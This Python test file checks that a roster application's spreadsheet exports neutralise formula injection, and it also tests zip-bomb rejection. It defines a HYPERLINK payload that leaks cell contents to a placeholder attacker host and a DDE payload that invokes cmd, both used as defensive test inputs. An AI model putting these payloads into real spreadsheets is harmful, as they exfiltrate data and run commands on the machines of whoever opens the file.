"""Spreadsheet cells never become formulas (issue 10, point 5): the shared helper, and every xlsx writer
given names and reasons that are formulas (the swap register, the compliance report, the allowance
table; the roster workbook is in zhiban/roster/tests/test_xlsx_safety.py)."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from zhiban.accounts.models import User
from zhiban.approvals.models import ApprovalStep
from zhiban.compliance import xlsx as compliance_xlsx
from zhiban.compliance.report import Deadlines, Report, RuleLine
from zhiban.core.spreadsheet import (
    FORMULA_STARTS,
    MAX_UNPACKED_BYTES,
    SpreadsheetError,
    cell_text,
    cell_value,
    cell_values,
    load_xlsx,
)
from zhiban.org.models import Person, Unit
from zhiban.policy.rules import ros_08
from zhiban.roster.compensation import xlsx as allowance_xlsx
from zhiban.roster.models import RosterPeriod, ShiftType
from zhiban.swaps import xlsx as swap_xlsx
from zhiban.swaps.models import SwapRequest

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1;"点我")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
NOW = dt.datetime(2026, 12, 3, 10, 0, tzinfo=dt.timezone(dt.timedelta(hours=8)))


def formulas(data: bytes) -> list[str]:
    """Every cell of the workbook that a spreadsheet would evaluate: a formula, or text starting like one."""
    found = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                starts_like_one = isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
                if cell.data_type == "f" or starts_like_one:
                    found.append(f"{ws.title}!{cell.coordinate}: {cell.value!r}")
    return found


def texts(data: bytes) -> set[str]:
    return {
        cell.value
        for ws in load_workbook(io.BytesIO(data)).worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


# ------------------------------------------------------------------------------------ the helper


@pytest.mark.parametrize("start", [*FORMULA_STARTS, "'"])
def test_text_starting_like_a_formula_gets_a_quote_and_reads_back(start: str) -> None:
    text = start + "1+1"
    assert cell_value(text) == "'" + text
    assert cell_text(cell_value(text)) == text


def test_numbers_dates_and_ordinary_text_are_written_unchanged() -> None:
    day = dt.date(2026, 12, 3)
    values = [3, -2, 1.5, Decimal("-0.5"), day, NOW, True, None, "张三", "1月1日", "a=b"]
    assert cell_values(values) == values


def test_characters_xml_cannot_hold_are_replaced_not_fatal() -> None:
    assert cell_value("张\x00三\x1f") == "张\ufffd三\ufffd"


def test_a_quote_before_ordinary_text_is_kept_on_reading() -> None:
    assert cell_text("'张三") == "'张三"
    assert cell_text(None) == ""
    assert cell_text(12) == "12"


XML_TEXT = st.text(
    alphabet=st.characters(
        blacklist_categories=["Cs"], blacklist_characters=[chr(c) for c in range(32) if chr(c) not in "\t\n\r"]
    )
)


@given(XML_TEXT)
def test_every_text_is_inert_once_written_and_reads_back_as_it_was(text: str) -> None:
    written = cell_value(text)
    assert not written.startswith(FORMULA_STARTS)
    assert cell_text(written) == text


def test_openpyxl_would_write_the_payload_as_a_formula_and_the_helper_as_text() -> None:
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws.append([PAYLOAD, cell_value(PAYLOAD)])
    assert [c.data_type for c in ws[1]] == ["f", "s"]


def test_load_xlsx_refuses_what_is_not_a_workbook_and_a_zip_bomb() -> None:
    with pytest.raises(SpreadsheetError):
        load_xlsx(b"not a zip")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"<" * (MAX_UNPACKED_BYTES + 1))
    assert len(buffer.getvalue()) < 2 * 2**20  # it would pass the upload limit
    with pytest.raises(SpreadsheetError, match="unpacks to more than 16 MB"):
        load_xlsx(buffer.getvalue())


# ------------------------------------------------------------------------------------ the writers


def test_swap_register_writes_no_formula_whatever_the_names_and_reason() -> None:
    swap = SwapRequest(
        requester=Person(name=PAYLOAD),
        colleague=Person(name=DDE),
        period=RosterPeriod(),
        day=dt.date(2026, 12, 3),
        shift_type=ShiftType(name="-2+3"),
        post="duty_officer",
        reason="+1 因病",
        status=SwapRequest.Status.ACCEPTED,
        created_at=NOW,
    )
    swap.pk = 1
    step = ApprovalStep(label_zh="班长", status=ApprovalStep.Status.APPROVED, decided_by=User(username="=1+1"))
    data = swap_xlsx.workbook_bytes("=客服中心", dt.date(2026, 12, 1), [swap], {1: [step]})
    assert formulas(data) == []
    assert {"'" + PAYLOAD, "'" + DDE, "'+1 因病", "'=客服中心2026年12月换班登记表"} <= texts(data)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert sheet["A3"].value == 1  # the number stays a number
    assert sheet["A3"].data_type == "n"


def test_compliance_report_writes_no_formula_whatever_the_names_and_reasons() -> None:
    report = Report(
        unit=Unit(name=PAYLOAD),
        month=dt.date(2026, 11, 1),
        rules=[RuleLine("ROS-02", "-提示", blocked=1, overridden=2, reasons=[(DDE, 2)])],
        deadlines=Deadlines(rosters_on_time=1, rosters_late=0, approvals_in_time=3, approvals_overdue=1),
        swaps=[(PAYLOAD, 3)],
        leave=[("@事假", Decimal("1.5"), 1)],
        absences=[("\t王五", Decimal("0.5"))],
    )
    data = compliance_xlsx.workbook_bytes(report)
    assert formulas(data) == []
    assert {"'" + PAYLOAD + "2026年11月合规月报", "'" + PAYLOAD, "'-提示", "'@事假", "'\t王五"} <= texts(data)
    book = load_workbook(io.BytesIO(data))
    assert book["规则执行"]["C3"].value == 1
    assert book["请假"]["B2"].value == 1.5


def test_allowance_table_writes_no_formula_whatever_the_names() -> None:
    rates = {"workday": Decimal("50")}
    row = ros_08.PersonAllowance(
        person_name=PAYLOAD, counts={"workday": 2}, amounts={"workday": Decimal("100")}, total=Decimal("100")
    )
    report = ros_08.AllowanceReport(
        categories=("workday",), rates=rates, rows=(row,), counts={"workday": 2}, total=Decimal("100")
    )
    data = allowance_xlsx.workbook_bytes(DDE, dt.date(2026, 12, 1), report)
    assert formulas(data) == []
    assert {"'" + PAYLOAD, "'" + DDE + "2026年12月值班津贴表"} <= texts(data)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert (sheet["C4"].value, sheet["D4"].value) == (2, 100)
